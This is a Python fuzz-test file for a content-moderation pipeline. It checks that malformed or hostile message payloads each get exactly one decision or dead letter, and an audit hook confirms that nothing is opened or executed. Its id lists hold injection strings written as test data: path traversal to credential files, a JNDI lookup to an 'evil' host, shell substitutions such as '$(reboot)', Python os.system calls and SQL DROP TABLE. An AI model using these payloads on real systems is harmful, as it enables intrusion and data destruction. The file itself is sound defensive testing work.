"""Hostile input, without a broker: every payload becomes exactly one decision or one dead letter.

Hypothesis drives `decode_post` and the pure `Moderator.moderate_batch`
(tiny keyword bundle for thousands of batches, the released bundle for a few
hundred) with arbitrary bytes, broken and hostile JSON, wrong types,
control characters, escaped lone surrogates, invalid UTF-8, enormous texts
and ids repeated within a batch. Each test reports how many cases it ran.

A Python audit hook also records every file open, exec/compile, import,
subprocess and socket call made while a batch is decided: nothing from a
post is ever evaluated or used as a path.
"""

from __future__ import annotations

import json
import string
import sys
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from feedwarden.models.bundle import Bundle
from feedwarden.stream import records as r
from feedwarden.stream.settings import Topics
from feedwarden.stream.topology import Incoming, Moderator, Scorer

pytestmark = pytest.mark.faults

TOPICS = Topics()
MAX_TEXT = 2000  # a small FEEDWARDEN_MAX_TEXT_CHARS, so "too long" is cheap to reach


def fuzz(examples: int) -> settings:
    """Bounded by case count, not by time per case; no example database written into the tree."""
    return settings(
        max_examples=examples, deadline=None, database=None, suppress_health_check=list(HealthCheck)
    )


DEPTH = 10_000

# ------------------------------------------------------------------ strategies

SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=30),
)
JSON = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
NASTY_TEXT = st.one_of(
    st.text(max_size=200),
    st.text(
        st.characters(codec="utf-8", categories=("Cc", "Cf", "Zl", "Zp", "Zs", "Mn", "So")), max_size=200
    ),
    st.sampled_from(
        [
            "",
            " ",
            "\x00",
            "\x00" * 50,
            "\u202e\u2066evil",
            "\ufeff",
            "a\r\nb",
            "\U0001f4a9" * 100,
            "ｆｒｅｅ ｓｃａｍ",
            "free scam " * 400,
            "x" * (MAX_TEXT + 1),
            "\u0301" * 500,
        ]
    ),
)
HOSTILE_IDS = st.sampled_from(
    [
        "../../etc/passwd",
        "/etc/shadow",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "~root/.ssh/id_rsa",
        "%s%s%n",
        "{0.__class__}",
        "${jndi:ldap://x/a}",
        "__import__('os').system('id')",
        "'; DROP TABLE posts;--",
        "\x00",
        "a\x00b",
        "\u202eevil",
        " leading",
        "x" * r.MAX_ID_CHARS,
        "x" * (r.MAX_ID_CHARS + 1),
        "   ",
        "/dev/zero",
        "/proc/self/environ",
        "CON",
        "nul",
        "$(reboot)",
        "`id`",
    ]
)
IDS = st.one_of(
    HOSTILE_IDS,
    st.text(max_size=40),
    st.integers(),
    st.none(),
    st.lists(st.integers(), max_size=2),
    st.booleans(),
    st.floats(allow_nan=False),
)
FIELDS = st.sampled_from(["platform", "author_id", "created_at", "lang", "context", "extra"])


@st.composite
def post_objects(draw: st.DrawFn) -> dict[str, Any]:
    """Mostly post-shaped objects: the right fields, often of the wrong type or value."""
    post: dict[str, Any] = {}
    if draw(st.integers(0, 9)):
        post["id"] = draw(IDS)
    if draw(st.integers(0, 9)):
        post["text"] = draw(st.one_of(NASTY_TEXT, NASTY_TEXT, JSON))
    for name in draw(st.lists(FIELDS, max_size=3, unique=True)):
        post[name] = draw(st.one_of(st.text(max_size=30), JSON, st.just("2026-01-01T00:00:00Z")))
    return post


def dump(value: Any, draw: st.DrawFn) -> bytes:
    """JSON as the standard library writes it: big integers, NaN, escaped or raw non-ASCII."""
    return json.dumps(value, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")


def _escape_surrogates(raw: bytes, draw: st.DrawFn) -> bytes:
    """Insert a JSON-escaped lone surrogate inside a string value."""
    surrogate = draw(st.sampled_from([b"\\ud800", b"\\udfff", b"\\udbff\\u0041", b"\\ud83d"]))
    at = raw.find(b'":"')
    return raw if at < 0 else raw[: at + 3] + surrogate + raw[at + 3 :]


def _break_utf8(raw: bytes, draw: st.DrawFn) -> bytes:
    bad = draw(
        st.sampled_from([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"\x80"])
    )
    at = draw(st.integers(0, len(raw)))
    return raw[:at] + bad + raw[at:]


def _nest(raw: bytes, draw: st.DrawFn) -> bytes:
    """Bury a value under thousands of arrays or objects, top level or in a field."""
    depth = draw(st.sampled_from([600, 1100, DEPTH]))
    opener, closer = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}")]))
    deep = opener * depth + b"1" + closer * depth
    where = draw(st.sampled_from(["top", "text", "context"]))
    if where == "top":
        return deep
    return b'{"id":"deep","' + where.encode() + b'":' + deep + b"}"


@st.composite
def payloads(draw: st.DrawFn) -> bytes:
    """One hostile message value."""
    kind = draw(st.integers(0, 9))
    if kind == 0:
        return draw(st.binary(max_size=400))
    if kind == 1:
        return draw(st.text(string.printable, max_size=80)).encode()
    if kind == 2:
        return dump(draw(JSON), draw)
    if kind == 3:
        return _nest(b"", draw)
    raw = dump(draw(post_objects()), draw)
    mutation = draw(st.integers(0, 9))
    if mutation == 0:
        return _escape_surrogates(raw, draw)
    if mutation == 1:
        return _break_utf8(raw, draw)
    if mutation == 2:
        return raw[: draw(st.integers(0, len(raw)))]  # truncated
    return raw


@st.composite
def batches(draw: st.DrawFn, max_size: int = 24) -> list[bytes]:
    """Hostile payloads plus valid posts, some sharing an id within the batch."""
    values = draw(st.lists(payloads(), min_size=1, max_size=max_size))
    shared = draw(st.sampled_from(["dup", "../../etc/passwd", "x"]))
    for _ in range(draw(st.integers(0, 4))):
        text = draw(st.sampled_from(["free scam giveaway", "hello world", "", "buy bitcoin now"]))
        values.insert(draw(st.integers(0, len(values))), orjson.dumps({"id": shared, "text": text}))
    return values


# ------------------------------------------------------------------ invariants


def check_decoded(raw: bytes | None, result: r.Post | r.Invalid, max_text: int = MAX_TEXT) -> None:
    if isinstance(result, r.Invalid):
        assert result.error in r.ERROR_CODES, result
        assert isinstance(result.detail, str) and len(result.detail) <= 300
        return
    assert isinstance(result, r.Post)
    assert isinstance(result.id, str) and result.id.strip() and len(result.id) <= r.MAX_ID_CHARS
    assert isinstance(result.text, str) and len(result.text) <= max_text
    result.id.encode("utf-8")  # no lone surrogate survives decoding
    result.text.encode("utf-8")


def check_report(messages: list[Incoming], outgoing: list[Any], decided: int, dead: list[str]) -> None:
    """Exactly one decision or one dead letter per message, in order, each well formed."""
    assert decided + len(dead) == len(messages)
    primary = [o for o in outgoing if o.topic in (TOPICS.decisions, TOPICS.dlq)]
    assert len(primary) == len(messages)
    for message, record in zip(messages, primary, strict=True):
        value = orjson.loads(record.value)
        if record.topic == TOPICS.dlq:
            assert value["error"] in r.ERROR_CODES
            assert value["offset"] == message.offset and value["partition"] == message.partition
            assert len(value["raw"].encode("utf-8")) <= 3 * r.DLQ_RAW_BYTES  # replacement chars widen
            assert value["raw_bytes"] == len(message.value or b"")
            assert record.key == f"{message.topic}/{message.partition}/{message.offset}".encode()
        else:
            post = r.decode_post(message.value, max_text_chars=MAX_TEXT)
            assert isinstance(post, r.Post)
            assert value["post_id"] == post.id and record.key == post.id.encode("utf-8")
            assert value["action"] in ("hide", "warn", "badge", "allow")
    for record in outgoing:
        if record.topic not in (TOPICS.decisions, TOPICS.dlq):
            assert record.topic == TOPICS.for_action(orjson.loads(record.value)["action"])


# ------------------------------------------------------------------ audit


class Audit:
    """Records risky interpreter events raised by the thread that decides a batch."""

    RISKY = (
        "open",
        "exec",
        "compile",
        "import",
        "subprocess.Popen",
        "os.system",
        "os.exec",
        "os.posix_spawn",
        "socket.connect",
        "pickle.find_class",
        "marshal.loads",
        "ctypes.dlopen",
        "shutil.rmtree",
        "os.remove",
    )

    def __init__(self) -> None:
        self.watching: int | None = None
        self.events: list[tuple[str, str]] = []

    def __call__(self, event: str, args: tuple[Any, ...]) -> None:
        if self.watching == threading.get_ident() and event in self.RISKY:
            self.events.append((event, repr(args)[:200]))

    @contextmanager
    def watch(self) -> Iterator[None]:
        self.watching = threading.get_ident()
        try:
            yield
        finally:
            self.watching = None


AUDIT = Audit()
sys.addaudithook(AUDIT)  # hooks cannot be removed; this one is inert outside `watch()`


# ------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def tiny(tiny_bundle: Bundle) -> Moderator:
    return Moderator(
        Scorer.from_bundle(tiny_bundle.path, providers="cpu"), TOPICS, max_text_chars=MAX_TEXT
    )


@pytest.fixture(scope="module")
def released(released_bundle: Bundle) -> Moderator:
    return Moderator(
        Scorer.from_bundle(released_bundle.path, providers="cpu"),
        TOPICS,
        max_text_chars=MAX_TEXT,
    )


def moderate(moderator: Moderator, values: list[bytes | None]) -> None:
    messages = [Incoming(v, "posts", 0, offset, 1.0) for offset, v in enumerate(values)]
    with AUDIT.watch():
        report = moderator.moderate_batch(messages)
    check_report(messages, report.outgoing, len(report.decided), report.dead_letters)


# ------------------------------------------------------------------ tests


def test_decode_post_over_hostile_payloads() -> None:
    outcomes: Counter[str] = Counter()

    @fuzz(2500)
    @given(payloads())
    def case(raw: bytes) -> None:
        result = r.decode_post(raw, max_text_chars=MAX_TEXT)
        check_decoded(raw, result)
        outcomes["post" if isinstance(result, r.Post) else result.error] += 1

    case()
    print(f"\ndecode_post: {sum(outcomes.values())} hostile payloads, 0 exceptions; {dict(outcomes)}")
    assert sum(outcomes.values()) >= 2000
    assert len(outcomes) >= 8, "the strategy should reach most error codes"


def test_decode_post_over_arbitrary_bytes() -> None:
    cases = []

    @fuzz(2000)
    @given(st.binary(max_size=2000))
    def case(raw: bytes) -> None:
        cases.append(raw)
        check_decoded(raw, r.decode_post(raw, max_text_chars=MAX_TEXT))

    case()
    print(f"\ndecode_post: {len(cases)} arbitrary byte strings, 0 exceptions")
    assert len(cases) >= 1500


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b"[" * DEPTH + b"]" * DEPTH, r.NOT_JSON),
        (b'{"a":' * DEPTH + b"1" + b"}" * DEPTH, r.NOT_JSON),
        (b'{"id":"d","text":"t","context":' + b"[" * DEPTH + b"]" * DEPTH + b"}", r.NOT_JSON),
        (b'{"id":"d","text":' + b"[" * DEPTH + b"]" * DEPTH + b"}", r.NOT_JSON),
        (b"[" * DEPTH, r.NOT_JSON),
        (b'{"id":"\\ud800","text":"t"}', r.NOT_JSON),
        (b'{"id":"i","text":"\\udfff"}', r.NOT_JSON),
        (b'{"id":"i","text":"\xed\xa0\x80"}', r.NOT_UTF8),  # a surrogate encoded as UTF-8 bytes
        (b'{"id":"i","text":"\xc0\xaf"}', r.NOT_UTF8),  # overlong
        (b'\xef\xbb\xbf{"id":"i","text":"t"}', r.NOT_JSON),  # BOM
        (b'{"id":"i","text":"t"}' + b" " * (r.MAX_PAYLOAD_BYTES + 1), r.TOO_LARGE),
        (orjson.dumps({"id": "i", "text": "a" * (MAX_TEXT + 1)}), r.TEXT_TOO_LONG),
        (b'{"id":"i","text":1e999}', r.NOT_JSON),
        (b'{"id":"i","text":NaN}', r.NOT_JSON),
        (b'{"id":1e400,"text":"t"}', r.NOT_JSON),
        (b'{"id":' + b"9" * 5000 + b',"text":"t"}', r.NOT_JSON),  # 5000 digits: an infinite double
        (b"\x00", r.NOT_JSON),
        (None, r.EMPTY),
    ],
    ids=lambda v: None if isinstance(v, str) else repr(v)[:24],
)
def test_pathological_payloads_have_their_code(raw: bytes | None, code: str) -> None:
    result = r.decode_post(raw, max_text_chars=MAX_TEXT)
    assert isinstance(result, r.Invalid) and result.error == code, result


def test_moderate_batch_over_hostile_batches_tiny_bundle(tiny: Moderator) -> None:
    sizes = []

    @fuzz(1000)
    @given(batches(max_size=16))
    def case(values: list[bytes]) -> None:
        sizes.append(len(values))
        moderate(tiny, list(values))

    case()
    print(f"\nmoderate_batch (tiny bundle): {len(sizes)} batches, {sum(sizes)} payloads, 0 exceptions")
    assert len(sizes) >= 800
    assert not AUDIT.events, AUDIT.events[:5]


def test_moderate_batch_over_hostile_batches_released_bundle(released: Moderator) -> None:
    sizes = []

    @fuzz(200)
    @given(batches(max_size=8))
    def case(values: list[bytes]) -> None:
        sizes.append(len(values))
        moderate(released, list(values))

    case()
    print(f"\nmoderate_batch (released bundle): {len(sizes)} batches, {sum(sizes)} payloads, 0 exceptions")
    assert len(sizes) >= 150
    assert not AUDIT.events, AUDIT.events[:5]


def test_enormous_and_empty_texts_are_decided(released: Moderator) -> None:
    """Texts at the size limit, all control characters, or empty still get one decision each."""
    texts = [
        "",
        "\x00" * MAX_TEXT,
        "free scam " * (MAX_TEXT // 10),
        "\U0001f4a9" * MAX_TEXT,
        " \t\n" * 600,
        "\u0301" * MAX_TEXT,
        "\ufffd" * MAX_TEXT,
    ]
    moderate(released, [orjson.dumps({"id": f"big-{i}", "text": t}) for i, t in enumerate(texts)])


def test_ids_are_only_keys_never_paths(
    tiny: Moderator, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Path-, format- and injection-shaped ids come back verbatim as keys; nothing is opened or run."""
    monkeypatch.chdir(tmp_path)
    hostile = [
        "../../etc/passwd",
        "/etc/shadow",
        "..\\..\\boot.ini",
        "file:///etc/passwd",
        "%s%n%x",
        "{0.__class__.__mro__}",
        "${jndi:ldap://evil/a}",
        "__import__('os').system('touch pwned')",
        "$(touch pwned)",
        "`touch pwned`",
        "a\x00b",
        "/proc/self/mem",
        "~/.ssh/id_rsa",
        "\u202eevil",
    ]
    messages = [
        Incoming(orjson.dumps({"id": i, "text": "free scam"}), "posts", 0, n, None)
        for n, i in enumerate(hostile)
    ]
    with AUDIT.watch():
        report = tiny.moderate_batch(messages)
    decisions = [o for o in report.outgoing if o.topic == TOPICS.decisions]
    assert [d.key for d in decisions] == [i.encode("utf-8") for i in hostile]
    assert [orjson.loads(d.value)["post_id"] for d in decisions] == hostile
    assert not AUDIT.events, AUDIT.events
    assert list(tmp_path.iterdir()) == [], "nothing was written"


def test_duplicate_ids_in_one_batch_each_get_a_decision(tiny: Moderator) -> None:
    """Redelivery inside one batch: the same post twice gets two identical decisions, nothing merged."""
    same = orjson.dumps({"id": "twice", "text": "free scam giveaway"})
    other = orjson.dumps({"id": "twice", "text": "hello world"})
    messages = [Incoming(v, "posts", 0, n, None) for n, v in enumerate([same, other, same])]
    report = tiny.moderate_batch(messages)
    decisions = [orjson.loads(o.value) for o in report.outgoing if o.topic == TOPICS.decisions]
    assert [d["post_id"] for d in decisions] == ["twice"] * 3
    assert decisions[0]["action"] == decisions[2]["action"] == "hide" and decisions[1]["action"] == "allow"
    for volatile in ("decided_at", "latency_ms"):
        decisions[0].pop(volatile), decisions[2].pop(volatile)
    assert decisions[0] == decisions[2]
